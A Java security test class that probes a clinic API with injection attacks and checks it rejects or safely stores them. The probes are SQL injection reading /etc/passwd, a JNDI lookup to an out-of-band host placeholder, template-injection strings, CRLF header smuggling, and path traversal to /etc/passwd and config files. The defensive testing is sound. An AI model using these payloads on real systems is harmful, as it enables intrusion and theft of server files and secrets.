package health.mizan.attacks;

import static org.assertj.core.api.Assertions.assertThat;

import health.mizan.testing.RawHttp.Answer;
import java.io.IOException;
import java.util.List;

/** Text that is meant to be run: as SQL, as a template, as a header, as a path. */
final class InjectionAttacks implements Surface {

    @Override
    public String name() {
        return "injection";
    }

    @Override
    public void bind(Bindings to) {
        to.live(
                "IN-006",
                "as the text and as the number of `POST /api/patients/search`, and as a parameter of lists",
                InjectionAttacks::sql);
        to.live("IN-014", "as `limit` and as `cursor`", InjectionAttacks::largePage);
        to.live("IN-015", "as `limit`", InjectionAttacks::emptyPage);
        to.live("IN-025", "as a patient's name: kept and shown letter by letter", InjectionAttacks::templates);
        to.live("IN-032", "percent-encoded as written, and with a bare carriage return", InjectionAttacks::headers);
        to.live("IN-036", "below the pages and below the API", InjectionAttacks::pathsUpwards);
        to.live("IN-044", "and other spellings of the address", InjectionAttacks::otherSpellings);
    }

    private static void sql(Attack attack) throws Exception {
        attack.alsoAccepts(422, "the value is none of those the parameter takes");
        String sql = "\\\\'; SELECT pg_read_file('/etc/passwd')--";
        attack.send(attack.shot().to("POST", "/api/patients/search").json("{\"text\":\"" + sql + "\"}"));
        attack.send(attack.shot()
                .to("POST", "/api/patients/search")
                .json("{\"identifier\":{\"system\":\"https://example.org/x\",\"value\":\"" + sql + "\"}}"));
        String encoded = attack.fill("{url:\\'; SELECT pg_read_file('/etc/passwd')--}");
        for (String list :
                List.of("/api/services?q=", "/api/payers?q=", "/api/cases?state=", "/api/invoices?cursor=")) {
            attack.send(attack.shot().to("GET", list + encoded));
        }
    }

    private static void largePage(Attack attack) throws Exception {
        attack.send(attack.shot().to("GET", "/api/invoices?limit=99999999999999999999"));
        attack.send(attack.shot().to("GET", "/api/invoices?cursor=99999999999999999999"));
    }

    private static void emptyPage(Attack attack) throws Exception {
        attack.alsoAccepts(422, "a limit lies between 1 and 200, and the answer says so");
        attack.send(attack.shot().to("GET", "/api/invoices?limit=0"));
        attack.send(attack.shot().to("GET", "/api/invoices?limit=-1"));
    }

    private static void templates(Attack attack) throws Exception {
        attack.changes().mayStand("49", "ids have digits; the name is compared letter by letter instead");
        for (String text : List.of("${jndi:ldap://" + attack.fill("{oobhost}") + "/a}", "${7*7} #{7*7} {{7*7}}")) {
            Answer answer = attack.send(OutputAttacks.register(attack, text));
            assertThat(answer.status()).as(answer.text()).isIn(201, 400, 422);
            if (answer.status() == 201) {
                assertThat(answer.text()).contains(text);
            }
        }
    }

    private static void headers(Attack attack) throws Exception {
        attack.asWritten();
        attack.send(attack.shot().header("X-Request-Id", "x\rSet-Cookie: a=b"));
        attack.send(attack.shot().header("traceparent", "00-x%0d%0aSet-Cookie:%20a=b"));
    }

    private static void pathsUpwards(Attack attack) throws Exception {
        attack.asWritten();
        for (String path : List.of(
                "/api/%2e%2e/%2e%2e/etc/passwd",
                "/assets/%2e%2e/application.yaml", "/assets/..%5c..%5capplication.yaml", "/%2e%2e/%2e%2e/etc/passwd")) {
            attack.send(attack.shot().to("GET", path));
        }
    }

    private static void otherSpellings(Attack attack) throws Exception {
        attack.asWritten();
        attack.alsoAccepts(302, "no address of the API: the pages ask to sign in");
        String invoice = attack.clinic().id("inv.B");
        for (String path : List.of(
                "/api/invoices//" + invoice,
                "/api/invoices/./" + invoice,
                "/api/invoices;x=y/" + invoice,
                "/api/invoices/" + invoice + ".json",
                "/API/invoices/" + invoice,
                "/api/invoices/" + attack.clinic().id("inv.A") + "/../" + invoice)) {
            attack.send(attack.shot().to("GET", path));
        }
    }

    @Override
    public String twin() {
        return "a desk finds a patient by a name with an apostrophe";
    }

    @Override
    public void runTwin(Attack lawful) throws IOException {
        String name = "Liam O'Neil-" + lawful.fill("{uuid}").substring(0, 8).replaceAll("[0-9]", "x");
        Answer registered = lawful.send(OutputAttacks.register(lawful, name).as(lawful.token("frontdeskF1")));
        assertThat(registered.status()).as(registered.text()).isEqualTo(201);
        assertThat(lawful.send(Shot.post("/api/patients/search", "{\"text\":\"" + name + "\"}")
                                .as(lawful.token("frontdeskF1")))
                        .text())
                .contains(name);
    }
}
